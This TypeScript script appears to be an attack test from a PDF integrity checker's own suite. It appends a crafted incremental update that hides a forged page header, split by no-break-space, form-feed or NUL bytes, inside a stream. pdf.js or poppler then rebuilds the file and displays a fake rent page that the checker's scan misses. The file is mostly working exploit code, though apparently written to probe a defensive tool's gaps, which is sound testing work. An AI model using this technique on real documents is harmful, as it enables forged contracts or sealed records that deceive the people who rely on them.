// a24: a header the unlisted scan does not take, pdf.js's rebuild does. pdf.js's indexObjects matches headers with JS
// regular expressions on a latin1 string (objRegExp /^(\d+)\s+(\d+)\s+obj\b/, gEndobjRegExp /\b(\d+\s+\d+\s+obj)\b/),
// and JS `\s` takes U+00A0: byte 0xA0 (no-break space) separates `4\xA00\xA0obj` for pdf.js. unlisted.ts's WS is
// [\0\t\n\v\f\r ] only, so the scan misses that header wherever it stands.
// The trigger here is a23's pdfjs-midline one (object 0 listed in use: pdf.js "unexpected first object" on the newest
// section -> XRefParseException -> indexObjects), which sealcheck refuses: so this measures the scan's gap, it is not
// a pass by itself. Any pdf.js rebuild trigger sealcheck accepts makes it one.
// modes: nbsp (the forged header with 0xA0 separators, no trigger: what sealcheck's scan says),
//        zero-nbsp (the trigger too: what pdf.js shows), space (0x20 separators, no trigger: the scan's control),
//        zero-space (trigger + 0x20: a23's pdfjs-midline zero).
//   npx tsx scripts/attack-s19/nbsp-header.ts <nbsp|zero-nbsp|space|zero-space|ff|ff-nbsp|ff-space|nul|nul-nbsp> [midline|line]   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "zero-nbsp";
const where = process.argv[3] ?? "midline";
if (!["nbsp", "zero-nbsp", "space", "zero-space", "ff-nbsp", "ff-space", "ff", "nul", "nul-nbsp"].includes(mode) || !["midline", "line"].includes(where))
  throw new Error("usage: <nbsp|zero-nbsp|space|zero-space|ff-nbsp|ff-space|ff|nul|nul-nbsp> [midline|line]");
// nul*: a NUL (0x00) there instead: poppler's getStartXref skips C isspace (no NUL) and strToLongLong reads 0.
const nul = mode.startsWith("nul");
// ff*: the trigger is the update's `startxref` followed by a form feed (0x0C) before its offset: sealcheck skips PDF white
// space there; pdf.js's startXRef skips only 0x20, 0x09, 0x0D, 0x0A, reads no digit, 0, and rebuilds (indexObjects).
const ff = mode.startsWith("ff");
const trigger = mode.startsWith("zero");
const sep = mode.endsWith("nbsp") ? "\xa0" : " ";
const forged = mode !== "ff" && mode !== "nul";
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const P = walkPages(view)[0]!.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B] = [alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number) => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
let off0 = 0;
if (trigger) {
  off0 = at;
  push(latin("0 0 obj\nnull\nendobj\n"));
}
const inner = !forged ? "nothing\n" : `${where === "midline" ? "x " : ""}${P}${sep}0${sep}obj ${forgedPage} endobj\n`;
const offA = at;
push(latin(`${A} 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner}endstream\nendobj\n`));
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
const x = at;
const zero = trigger ? `0 1\n${entry(off0, 0)}` : "";
push(
  latin(
    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref${ff ? "\f" : nul ? "\0" : "\n"}${x}\n%%EOF\n`,
  ),
);
judge(`nbsp-header ${mode} ${where}`, save(work(`s19-nbsp-${mode}-${where}`), "archive.pdf", Uint8Array.from(parts.flat())));
